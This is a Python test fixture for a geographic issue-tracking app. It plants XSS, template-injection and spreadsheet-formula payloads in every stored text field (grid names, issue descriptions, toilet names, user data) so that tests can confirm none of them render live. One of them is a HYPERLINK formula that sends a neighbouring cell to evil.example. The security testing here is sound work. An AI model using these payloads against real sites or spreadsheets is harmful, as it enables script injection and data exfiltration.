"""Hostile text in every stored text field, for the XSS and formula-injection tests.

:data:`PAYLOAD` tries each way stored text could run script in a page: closing an
attribute and adding an element with a handler (``innerHTML``), closing the inline
``<script>`` that carries a map's data, and ending or interpolating the JavaScript
template literal Folium writes tooltips and popups into. Each one, if it ran, would set
``window.__xss``; its Jinja part, if the server evaluated it, would show ``sstilive``. :func:`hostile_world` stores it (behind a label naming the field) in
every text field a user or an import can set.
"""

from dataclasses import dataclass

import geopandas as gpd
import pandas as pd

from geo.grids import importer as grids
from geo.grids import versions
from geo.issues import records as issues
from geo.people import users
from geo.toilets import records as toilets
from tests import accounts
from tests.layouts import DISTRICT, code, grid_layout, xy

PAYLOAD = ('N"><img src=x onerror="window.__xss=1">'
           "</script><script>window.__xss=2</script>"
           "${window.__xss=3}`"
           "{{ 'ssti' ~ 'live' }}{% if true %}sstiblock{% endif %}{# c #}")
#: What must never appear in a page: the live forms of the payload's parts (the last:
#: the Jinja part evaluated on the server, as Branca's templates once did).
LIVE = ("<img src=x onerror", "<script>window.__xss", "</script><script>", "sstilive")
#: A formula a spreadsheet would run: it sends the neighbouring cell to another server.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
#: The issue's reference and the toilet's name (a formula too).
REF = 'R<img src=x onerror="window.__xss=4">'
TOILET_NAME = FORMULA + PAYLOAD
#: The grid, street and community that hold the payload.
GRID = code(2)
STREET = f"{DISTRICT}001000000"
COMMUNITY = f"{DISTRICT}001001000"


def text(label):
    """The payload behind ``label``, so a page shows which field it came from."""
    return f"{label}{PAYLOAD}"


@dataclass
class World:
    issue: int
    toilet: str
    draft: int
    user: str


def hostile_world(db, settings, tmp_path):
    """Grids (with a street and a community row), an issue, a toilet, a draft and a user,
    every text field holding :func:`text`; returns a :class:`World`.

    The grid ``GRID`` (unit square 2..4 × 2..4 of :mod:`tests.layouts`) is named,
    led and staffed by the payload; the issue and the toilet stand in it at unit (2.5, 2.5)
    and (3.5, 3.5); the toilet's name is a spreadsheet formula as well.
    """
    layout = grid_layout()
    row = layout["code"] == GRID
    layout.loc[row, "name"] = text("grid name")
    layout.loc[row, "leader"] = text("grid leader")
    layout.loc[row, "departments"] = text("grid department") + "、区住建局"
    whole = layout.geometry.union_all()
    parents = gpd.GeoDataFrame(
        {"code": [STREET, COMMUNITY], "name": [text("street name"), text("community name")],
         "leader": [text("street leader"), text("community leader")],
         "departments": ["", ""], "population": [0, 0]},
        geometry=[whole, whole], crs=layout.crs)
    layout = pd.concat([layout, parents], ignore_index=True)
    layout.to_file(tmp_path / "hostile-grids.geojson", driver="GeoJSON")
    grids.import_grids(db, settings, tmp_path / "hostile-grids.geojson")
    lon, lat = xy(2.5, 2.5)
    issue = issues.create_issue(db, settings, {
        "ref": REF, "category": "07001",
        "lon": lon, "lat": lat, "status": "filed", "reported_at": "2026-11-27 10:00",
        "description": text("issue description"), "address": text("issue address")})
    lon, lat = xy(3.5, 3.5)
    toilet = toilets.create_toilet(db, settings, {
        "code": "CS-1", "kind": "public", "lon": lon, "lat": lat, "name": TOILET_NAME,
        "address": text("toilet address"), "original_type": "dry_latrine",
        "status": "planned"}, actor=text("toilet actor"))["code"]
    toilets.update_toilet(db, settings, toilet, {"heating": True},
                          actor=text("toilet actor"), note=text("toilet note"))
    draft = versions.create_draft(db, label=text("draft label"), note=text("draft note"))
    login = "hostile"
    users.create_user(db, login, text("user name"), ["admin"], accounts.PASSWORD,
                      phone=text("user phone"), actor="tests")
    return World(issue=issue, toilet=toilet, draft=draft, user=login)
